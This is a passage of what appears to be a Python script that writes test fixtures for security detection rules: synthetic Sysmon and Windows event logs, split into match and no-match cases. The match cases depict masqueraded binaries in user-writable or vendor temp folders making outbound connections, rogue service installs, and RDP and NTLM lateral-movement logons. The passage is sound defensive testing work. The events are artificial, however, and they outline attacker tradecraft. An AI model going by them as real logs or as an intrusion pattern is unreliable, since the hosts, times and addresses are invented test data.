  sysmon3('fs01.corp.local','2022-06-22T02:20:05','C:\\ProgramData\\KasperskyLab\\adminkit\\1093\\$FTCITMP\\4F2A91C0\\exec\\igfxsrvc.exe','203.0.113.190','8443',user='NT AUTHORITY\\SYSTEM',src='10.10.10.20'),
  sysmon3('fs01.corp.local','2022-06-17T01:45:46','C:\\Windows\\Temp\\drmsvc.exe','198.51.100.77','8080',user='NT AUTHORITY\\SYSTEM',src='10.10.10.20'),
  sysmon3('ws02.corp.local','2022-06-17T03:00:00','C:\\Users\\Public\\svc.exe','192.0.2.14','80'),
])
write(s,'nomatch',[
  sysmon3('ws01.corp.local','2022-06-15T06:00:00','C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe','142.250.74.46','443'),
  sysmon3('ws01.corp.local','2022-06-15T06:01:00','C:\\Users\\a.ivanov\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe','10.0.0.5','443'),
  sysmon3('ws01.corp.local','2022-06-15T06:02:00','C:\\ProgramData\\Vendor\\agent.exe','192.168.1.1','9100'),
  sysmon3('ws01.corp.local','2022-06-15T06:03:00',IGC2,'198.51.100.23','443',initiated='false'),
])
s='dns_query_win_user_writable_folder'
write(s,'match',[
  sysmon22('ws01.corp.local','2022-06-15T06:21:15',IGC2,'update.example-cdn.com','::ffff:198.51.100.23;'),
  sysmon22('ws01.corp.local','2022-06-16T02:14:40','C:\\ProgramData\\Microsoft\\DRM\\drmsvc.exe','api.example-news.net','::ffff:198.51.100.77;',user='NT AUTHORITY\\SYSTEM'),
])
write(s,'nomatch',[
  sysmon22('ws01.corp.local','2022-06-15T06:00:00','C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe','www.office.com','::ffff:13.107.6.156;'),
  sysmon22('ws01.corp.local','2022-06-15T06:01:00','C:\\ProgramData\\Vendor\\agent.exe','fs01.corp.local','::ffff:10.10.10.20;'),
])
s='win_security_rdp_logon'
write(s,'match',[
  sec4624('dc01.corp.local','2022-06-21T02:05:12','adm.sokolov','10.10.20.31',ltype=10,ws='WS14'),
  sec4624('ksc01.corp.local','2022-06-20T01:30:05','adm.sokolov','10.10.20.31',ltype=10,ws='WS14'),
])
write(s,'nomatch',[
  sec4624('dc01.corp.local','2022-06-21T05:00:03','p.sidorov','10.10.20.32',ltype=3,ws='WS22'),
  sec4624('ws01.corp.local','2022-06-21T05:00:10','a.ivanov','-',ltype=2,ws='WS01'),
  sec4625('dc01.corp.local','2022-06-21T05:01:00','adm.sokolov','10.10.20.31',ws='WS14',ltype=10),
])
s='win_system_service_install_user_writable_folder'
write(s,'match',[
  sys7045('ws01.corp.local','2022-06-16T02:14:31','DRM Update Service','C:\\ProgramData\\Microsoft\\DRM\\drmsvc.exe'),
  sys7045('fs01.corp.local','2022-06-17T01:45:38','IntelGfxUpd','C:\\Windows\\Temp\\drmsvc.exe'),
  sys7045('fs02.corp.local','2022-06-17T01:50:00','UpdSvc','"C:\\Users\\Public\\Libraries\\upd.exe" -k'),
])
write(s,'nomatch',[
  sys7045('ws01.corp.local','2022-06-16T09:00:00','Google Chrome Elevation Service','"C:\\Program Files\\Google\\Chrome\\Application\\103.0.5060.114\\elevation_service.exe"','demand start'),
  sys7045('ws01.corp.local','2022-06-16T09:01:00','WdNisSvc','"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2205.7-0\\NisSrv.exe"'),
  sys7045('ws01.corp.local','2022-06-16T09:02:00','klnagent','"C:\\Program Files (x86)\\Kaspersky Lab\\NetworkAgent\\klnagent.exe"'),
])
s='win_security_network_logon_ntlm'
def sec4624k(computer,t,user,ip,ws,pkg='Kerberos'):
    e=sec4624(computer,t,user,ip,ltype=3,ws=ws)
    e["Event"]["EventData"]["LogonProcessName"]=pkg
    e["Event"]["EventData"]["AuthenticationPackageName"]=pkg
    return e
write(s,'match',[
  sec4624('dc01.corp.local','2022-06-16T02:55:30','svc_scan','10.10.20.31',ws='WS14'),
  sec4624('fs01.corp.local','2022-06-17T01:45:10','svc_scan','10.10.20.31',ws='WS14'),
])
write(s,'nomatch',[
  sec4624k('dc01.corp.local','2022-06-16T05:00:03','p.sidorov','10.10.20.32','WS22'),
  sec4624('fs01.corp.local','2022-06-16T05:01:00','ANONYMOUS LOGON','10.10.20.33',ws='WS31'),
  sec4624('fs01.corp.local','2022-06-16T05:02:00','WS31$','10.10.20.33',ws='WS31'),
  sec4624('dc01.corp.local','2022-06-16T05:03:00','adm.kuznetsov','10.10.20.34',ltype=10,ws='WS35'),
])
print('ok')
